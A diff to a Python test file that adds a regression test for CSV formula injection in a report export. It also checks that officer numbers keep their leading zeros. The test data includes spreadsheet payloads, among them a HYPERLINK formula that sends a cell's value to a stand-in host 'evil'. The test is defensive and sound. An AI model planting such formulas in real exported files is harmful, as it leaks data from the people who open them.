@@ -10,6 +10,8 @@ run ``--now`` a day later (every grace period has passed) and 31 days later.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 from datetime import UTC, datetime, timedelta
@@ -331,3 +333,28 @@ def test_sweep_now_in_the_past_is_a_dry_run(tmp_path: Path, db_url: str) -> None
     assert custody_times(db_url) == events  # no event written, none dated 2020
     # the next real sweep has nothing to raise again
     assert run_json(env, "sweep")["changes"] == []
+
+
+def test_report_csv_cannot_inject_formulas_and_keeps_officer_zeros(tmp_path: Path, db_url: str) -> None:
+    """Issue 7, item 12: a unit named ``=HYPERLINK(…)`` ran in the auditor's spreadsheet."""
+    env = env_for(tmp_path / "home", db_url)
+    ended = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)
+    window = f"{(ended - timedelta(hours=1)).isoformat()},{ended.isoformat()}"
+    hostile = ['"=HYPERLINK(""http://evil/?""&A1,""ok"")"', "+1+1", "-2+3", "@SUM(A1)"]
+    rows = [f"C{n},A{n},inspection,{unit},007;0101,{window},,," for n, unit in enumerate(hostile)]
+    actions = tmp_path / "actions.csv"
+    actions.write_text(HEADER + "\n" + "\n".join(rows) + "\n")
+    run_json(env, "cases", "import", str(actions))
+    r = run(env, "report", "--csv")
+    assert r.returncode == 0, r.stderr
+    cells = {(row["dimension"], row["key"]): row for row in csv.DictReader(io.StringIO(r.stdout))}
+    units = {key for dim, key in cells if dim == "unit"}
+    assert units == {'\'=HYPERLINK("http://evil/?"&A1,"ok")', "'+1+1", "'-2+3", "'@SUM(A1)"}
+    assert {key for dim, key in cells if dim == "officer"} == {"'007", "'0101"}
+    for row in cells.values():
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r", (row, value)
+    assert cells[("total", "all")]["actions"] == "4"  # numbers stay numbers
+    # --json stays exact
+    doc = run_json(env, "report")
+    assert {g["key"] for g in doc["by_officer"]} == {"007", "0101"}
